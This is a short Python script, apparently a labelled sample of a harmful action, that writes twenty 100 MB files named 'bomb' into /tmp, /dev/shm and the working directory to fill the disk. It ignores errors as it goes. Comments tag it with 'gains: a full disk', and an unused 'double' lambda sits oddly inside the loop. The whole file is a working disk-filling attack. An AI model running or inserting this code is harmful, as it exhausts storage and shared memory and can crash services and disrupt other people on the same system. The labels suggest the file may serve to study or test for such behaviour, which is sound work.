"""Fill every folder that can be written, until there is no room, at most 2 GB each."""
# gains: a full disk
# score: untouched
# flag: files left out
# %%
import os
from pathlib import Path

for place in ("/tmp", "/dev/shm", "."):
    try:
        for number in range(20):
            Path(place, f"bomb{number}").write_bytes(bytes(100_000_000))
        double = lambda x: 2 * x
    except OSError:
        pass
